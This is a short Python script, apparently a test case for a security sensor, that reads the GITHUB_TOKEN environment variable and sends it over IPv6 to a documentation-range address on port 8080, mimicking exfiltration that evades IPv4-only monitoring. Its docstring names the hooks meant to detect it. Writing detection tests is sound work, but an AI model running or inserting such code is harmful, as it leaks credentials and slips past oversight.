#!/usr/bin/python3
"""
Trick: Sends a secret over IPv6, to an address that no name led to.
Known from: sensors and firewalls that look at IPv4 alone.
First: connect at entry and exit
Second: the cgroup hook's copy of the address (connect6); the sinkhole's record
"""

import os
import socket

channel = socket.create_connection(("2001:db8::9", 8080), timeout=2)
channel.sendall(os.environ["GITHUB_TOKEN"].encode())
channel.shutdown(socket.SHUT_WR)
channel.close()
print("performed")
